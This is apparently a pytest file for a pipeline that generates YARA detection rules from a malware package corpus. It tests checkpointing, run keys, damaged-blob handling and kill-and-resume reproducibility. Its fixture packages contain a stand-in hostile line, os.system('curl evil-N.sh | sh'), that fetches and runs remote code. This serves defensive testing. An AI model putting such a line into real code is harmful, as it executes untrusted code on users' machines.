"""Fleet checkpoint tests: shard fingerprints, run keys, reconciliation,
and the orchestrator's kill-and-resume path producing a bit-identical
merged publish (`repro.store.checkpoints`, `repro.api.orchestrator`)."""

from __future__ import annotations

import pytest

from repro.api import (
    GenerationOrchestrator,
    RoundRobinShardPlan,
    RuleLLMConfig,
    RulesetRegistry,
)
from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.store import SimulatedCrash, open_store
from repro.store.checkpoints import (
    FleetCheckpointer,
    fleet_run_key,
    rule_set_from_blob,
    rule_set_to_blob,
    shard_fingerprint,
)
from repro.core.rules import GeneratedRule, GeneratedRuleSet


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
        label="malware",
    )


def _corpus(count: int = 8) -> list[Package]:
    return [
        _pkg(f"mal-{i}", f"import os\nos.system('curl evil-{i}.sh | sh')\n")
        for i in range(count)
    ]


def _ruleset(*names: str) -> GeneratedRuleSet:
    rule_set = GeneratedRuleSet(model="test")
    for name in names:
        rule_set.add(GeneratedRule(
            format="yara",
            name=name,
            text=f'rule {name} {{ strings: $a = "{name}" condition: $a }}',
        ))
    return rule_set


class TestFingerprints:
    def test_shard_fingerprint_is_content_addressed(self):
        packages = _corpus(3)
        first = shard_fingerprint("s0", packages)
        again = shard_fingerprint("s0", [
            _pkg(f"mal-{i}", f"import os\nos.system('curl evil-{i}.sh | sh')\n")
            for i in range(3)
        ])
        assert first == again
        assert shard_fingerprint("s1", packages) != first
        assert shard_fingerprint("s0", packages[:2]) != first

    def test_run_key_covers_every_input(self):
        prints = [("s0", shard_fingerprint("s0", _corpus(2)))]
        base = fleet_run_key("round-robin", "merged", "gpt-4o", 7, prints)
        assert fleet_run_key("cluster", "merged", "gpt-4o", 7, prints) != base
        assert fleet_run_key("round-robin", "stacked", "gpt-4o", 7, prints) != base
        assert fleet_run_key("round-robin", "merged", "other", 7, prints) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 8, prints) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 7, []) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 7, prints) == base

    def test_rule_set_blob_round_trip(self):
        original = _ruleset("alpha", "beta")
        blob = rule_set_to_blob(original)
        again = rule_set_from_blob(blob)
        assert [(r.format, r.name, r.text) for r in again.rules] == \
               [(r.format, r.name, r.text) for r in original.rules]
        assert rule_set_to_blob(again) == blob  # stable, fingerprintable bytes


class TestCheckpointer:
    def test_reconcile_returns_checkpointed_shards(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="round-robin", publish="merged",
                              shard_labels=["s0", "s1"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.5)

            state = checkpointer.reconcile("key-1", ["s0", "s1"])
            assert sorted(state.finished) == ["s0"]
            assert sorted(state.missing) == ["s1"]
            assert state.damaged == []
            assert state.merged_epoch is None
            checkpoint = state.finished["s0"]
            assert [r.name for r in checkpoint.rule_set.rules] == ["alpha"]
            assert checkpoint.seconds == 0.5

    def test_reconcile_ignores_other_runs(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-a", plan="p", publish="merged",
                              shard_labels=["s0"])
            checkpointer.shard_complete("key-a", "s0", _ruleset("alpha"), 0.1)
            state = checkpointer.reconcile("key-b", ["s0"])
            assert state.finished == {}
            assert state.missing == ["s0"]

    def test_damaged_checkpoint_blob_is_rerun_not_served(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="p", publish="merged",
                              shard_labels=["s0"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.1)
        for blob in (tmp_path / "store" / "blobs").glob("*/*.blob"):
            blob.write_bytes(b"bitrot")
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            state = FleetCheckpointer(store).reconcile("key-1", ["s0"])
            assert state.finished == {}
            assert state.missing == ["s0"]
            assert state.damaged == ["s0"]

    def test_reconcile_survives_compaction(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="p", publish="merged",
                              shard_labels=["s0", "s1"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.1)
            store.compact()
            state = FleetCheckpointer(store).reconcile("key-1", ["s0", "s1"])
            assert list(state.finished) == ["s0"]
            assert state.missing == ["s1"]


class TestOrchestratorResume:
    def _orchestrator(self, store, registry, shards=2, crash_after=None):
        orchestrator = GenerationOrchestrator(
            config=RuleLLMConfig.full(model="gpt-4o", seed=11),
            plan=RoundRobinShardPlan(shards),
            registry=registry,
            max_workers=1,
            store=store,
        )
        if crash_after is not None:
            def crash(label: str, completed: int) -> None:
                if completed >= crash_after:
                    raise SimulatedCrash(f"killed after {label}")
            orchestrator.on_shard_checkpoint = crash
        return orchestrator

    def test_kill_and_resume_is_bit_identical(self, tmp_path):
        corpus = _corpus(8)

        # the uninterrupted reference run
        ref_store, _ = open_store(tmp_path / "ref", durable=False)
        with ref_store:
            reference = self._orchestrator(
                ref_store, RulesetRegistry(store=ref_store)
            ).run(corpus, publish="merged", label="fleet")
        assert reference.version is not None

        # the killed run: first shard checkpoint lands, then the "process" dies
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            with pytest.raises(SimulatedCrash):
                self._orchestrator(
                    store, RulesetRegistry(store=store), crash_after=1
                ).run(corpus, publish="merged", label="fleet")

        # a fresh process resumes: only the missing shard re-runs
        store, report = open_store(tmp_path / "store", durable=False)
        with store:
            assert report.ok
            registry = RulesetRegistry.from_store(store)
            resumed = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert resumed.resumed  # at least one shard came from a checkpoint
            assert resumed.version is not None
            assert resumed.version.cache_key == reference.version.cache_key
            assert rule_set_to_blob(resumed.rule_set) == \
                rule_set_to_blob(reference.rule_set)

    def test_resume_with_nothing_checkpointed_runs_everything(self, tmp_path):
        corpus = _corpus(6)
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            fleet = self._orchestrator(store, RulesetRegistry(store=store)).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert fleet.resumed == []
            assert fleet.version is not None

    def test_resume_after_merge_reuses_all_checkpoints(self, tmp_path):
        corpus = _corpus(6)
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            registry = RulesetRegistry(store=store)
            first = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet"
            )
            # re-running the identical fleet with --resume replays every shard
            # from its checkpoint and republishes deterministically
            again = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert sorted(again.resumed) == sorted(
                run.label for run in first.shard_runs
            )
            assert again.version.cache_key == first.version.cache_key

    def test_corpus_change_invalidates_checkpoints(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            registry = RulesetRegistry(store=store)
            with pytest.raises(SimulatedCrash):
                self._orchestrator(store, registry, crash_after=1).run(
                    _corpus(8), publish="merged", label="fleet"
                )
            # a different corpus is a different run_key: nothing resumes
            changed = [_pkg("new-pkg", "import socket\n")] + _corpus(7)
            fleet = self._orchestrator(store, registry).run(
                changed, publish="merged", label="fleet", resume=True
            )
            assert fleet.resumed == []
            assert fleet.version is not None
